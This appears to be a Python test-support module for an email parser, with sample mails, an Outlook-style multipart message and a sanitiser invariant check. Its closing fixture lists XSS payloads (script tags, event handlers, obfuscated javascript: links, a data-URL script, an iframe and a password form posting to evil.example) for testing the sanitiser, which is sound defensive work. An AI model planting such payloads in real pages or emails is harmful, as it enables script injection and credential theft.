"""Mail sources and the checks every parse result must pass, shared by the parser's tests."""

from __future__ import annotations

import base64
from email.message import EmailMessage
from html.parser import HTMLParser

from tracklog.maillog.parse import ParsedMail, Part

C0_AND_SPACE = "".join(chr(code) for code in range(0x21))
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(64))


def crlf(text: str) -> bytes:
    """Hand-written mail source with CRLF line ends, as it travels."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("ascii")


def simple_mail(body: str = "Hello there", **headers: str) -> EmailMessage:
    """A plain-text mail with the usual headers, overridable by keyword."""
    message = EmailMessage()
    defaults = {
        "From": "Alice Seller <alice@seller.example>",
        "To": "Bob Buyer <bob@buyer.example>",
        "Subject": "Quote",
        "Date": "Tue, 02 Jan 2024 10:00:00 +0100",
        "Message-ID": "<quote-1@seller.example>",
    }
    defaults.update({name.replace("_", "-"): value for name, value in headers.items()})
    for name, value in defaults.items():
        message[name] = value
    message.set_content(body)
    return message


class _Attributes(HTMLParser):
    """Every tag and attribute of some HTML."""

    def __init__(self) -> None:
        """Start empty."""
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        """Record the tag and its attributes."""
        self.tags.append(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)


def problems_of(parsed: ParsedMail) -> list[str]:
    """The mail's problems as English sentences."""
    return [problem.text() for problem in parsed.problems]


def assert_safe(parsed: ParsedMail) -> None:
    """The invariants every parse result keeps, however broken the mail."""
    assert isinstance(parsed, ParsedMail)
    lowered = parsed.html.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    found = _Attributes()
    found.feed(parsed.html)
    assert not [name for name, _value in found.attributes if name.lower().startswith("on")]
    assert not {"script", "style", "iframe", "form", "object", "embed"} & set(found.tags)
    for name, value in found.attributes:
        if name in ("href", "src"):
            # As a browser reads a URL: tabs and newlines removed, control characters trimmed.
            value = "".join(c for c in value if c not in "\t\r\n").strip(C0_AND_SPACE)
            scheme = value.split(":", 1)[0].lower() if ":" in value else ""
            assert scheme in ("http", "https", "mailto", "tel", "data"), value
            if scheme == "data":
                assert value.startswith("data:image/"), value
    for text in [parsed.html, parsed.text, parsed.subject, *problems_of(parsed)]:
        text.encode("utf-8")
        assert "\x00" not in text
    for address in [parsed.sender, *parsed.to, *parsed.cc, *parsed.bcc]:
        if address is not None:
            address.email.encode("utf-8")
            address.name.encode("utf-8")
    for part in parsed.attachments:
        assert isinstance(part, Part) and isinstance(part.data, bytes)
        assert part.filename and "/" not in part.filename and "\\" not in part.filename
    assert len(parsed.subject) <= 998
    assert parsed.date is None or parsed.date.tzinfo is not None
    assert len(parsed.content_hash) == 64


OUTLOOK = (
    crlf(
        """Received: from mail.seller.example
From: "Seller, Alice" <Alice@Seller.Example>
To: "Buyer, Bob" <bob@buyer.example>
Subject: =?utf-8?B?UmU6IFF1b3RlIOKAkyBzcHJpbmc=?=
Thread-Topic: Quote
Date: Wed, 3 Jan 2024 08:30:00 +0000
Message-ID: <DB9PR01MB1234ABCD@DB9PR01MB1234.eurprd01.prod.outlook.com>
X-Tracklog-Message: cmp_7f3a
Content-Type: multipart/related;
\tboundary="_004_DB9PR01MB_";
\ttype="multipart/alternative"
MIME-Version: 1.0

--_004_DB9PR01MB_
Content-Type: multipart/alternative;
\tboundary="_000_DB9PR01MB_"

--_000_DB9PR01MB_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

SGkgQm9iLAoKW2NpZDppbWFnZTAwMS5wbmdAMDFEQTNFMDAuQUJDREVGMDBdCgpBbGljZQo=

--_000_DB9PR01MB_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

<html xmlns:o=3D"urn:schemas-microsoft-com:office:office"><head><meta http-=
equiv=3D"Content-Type" content=3D"text/html; charset=3Dutf-8"><style><!--
p.MsoNormal {margin:0cm;}
--></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext=3D"edit" spidmax=
=3D"1026" /></xml><![endif]--></head><body lang=3D"EN-GB"><div class=3D"Wor=
dSection1"><p class=3D"MsoNormal">Hi Bob,<o:p></o:p></p><p class=3D"MsoNorm=
al"><img width=3D"120" height=3D"40" id=3D"Picture_x0020_1" src=3D"cid:imag=
e001.png@01DA3E00.ABCDEF00" alt=3D"Logo"><o:p></o:p></p><p class=3D"MsoNorm=
al">Alice<o:p></o:p></p></div></body></html>

--_000_DB9PR01MB_--

--_004_DB9PR01MB_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=80;
Content-ID: <image001.png@01DA3E00.ABCDEF00>
Content-Transfer-Encoding: base64

"""
    )
    + base64.encodebytes(PNG).replace(b"\n", b"\r\n")
    + crlf(
        """
--_004_DB9PR01MB_--
"""
    )
)


MALICIOUS_HTML = """<html><head><style>body{background:url(javascript:alert(1))}</style>
<script>alert('head')</script><meta http-equiv="refresh" content="0;url=https://evil.example">
</head><body onload="alert(1)">
<p style="color:red" onclick="steal()">Hello <b>there</b></p>
<img src="x" onerror="alert(2)"><img src="https://cdn.example/logo.png" alt="logo">
<a href="javascript:alert(3)">click</a> <a href="JaVaScRiPt&colon;alert(4)">enc</a>
<a href="  javascript:alert(5)">spaced</a> <a href="vbscript:msgbox(6)">vb</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">data</a>
<a href="https://ok.example/path" target="_top">fine</a> <a href="/relative">rel</a>
<iframe src="https://evil.example/frame">frame text</iframe>
<form action="https://evil.example/post"><input name="password"><button>Go</button></form>
<svg><script>alert(8)</script><a xlink:href="javascript:alert(9)">svg</a></svg>
<object data="evil.swf"></object><embed src="evil.swf">
<math><mi xlink:href="javascript:alert(10)">m</mi></math>
<div style="background-image:url('https://track.example/p.gif')">styled</div>
<!--[if mso]><script>alert(11)</script><![endif]-->
<table background="javascript:alert(12)"><tr><td>cell</td></tr></table>
<p>Text mentioning javascript:void(0) and onload=x stays harmless</p>
</body></html>"""
